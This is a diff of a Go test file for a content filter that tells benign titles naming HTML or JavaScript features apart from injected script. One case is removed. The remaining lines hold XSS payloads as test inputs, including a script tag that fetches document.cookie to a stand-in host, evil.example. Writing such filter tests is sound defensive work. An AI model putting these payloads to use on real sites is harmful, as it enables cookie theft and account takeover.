@@ -153,7 +153,6 @@ func TestLearnedFreeText(t *testing.T) {
 		{"a title naming a tag with an attribute", article("title", "`<input type=\"url\">` HTML attribute value"), true},
 		{"a title naming a command", article("title", "`unset` CSS keyword"), true},
 		{"a title naming a JavaScript sink", article("title", "`eval()` global function"), true},
-		{"an article that is mostly an HTML table", article("body", table+"[x](#content_categories)"), false},
 		{"a script element in a title", article("title", "<script>alert(document.cookie)</script>"), false},
 		{"an event handler in a title", article("title", "Hi <img src=x onerror=alert(1)>"), false},
 		{"a script after a code block", article("body", "```js\nlet a = 1;\n```\n<script>fetch('//evil.example/'+document.cookie)</script>"), false},
